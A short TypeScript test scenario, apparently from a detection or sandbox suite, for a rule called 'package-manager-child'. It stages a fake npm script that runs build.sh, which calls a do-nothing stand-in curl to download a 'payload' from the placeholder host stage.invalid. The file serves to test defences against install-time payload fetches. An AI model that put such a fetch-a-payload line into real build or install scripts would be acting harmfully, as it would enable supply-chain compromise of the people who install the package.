import type { Play } from "../play.ts";

export const packageManagerChild: Play = {
  rule: "package-manager-child",
  does: "lets a package's script start a program named curl, which does nothing",
  play({ put, putIdle, runScript }) {
    putIdle("curl");
    put("build.sh", "./curl -s -o stage http://stage.invalid/payload\n");
    put("bin/npm", "sh build.sh\n");
    runScript("sh bin/npm install nothing\n");
  },
};
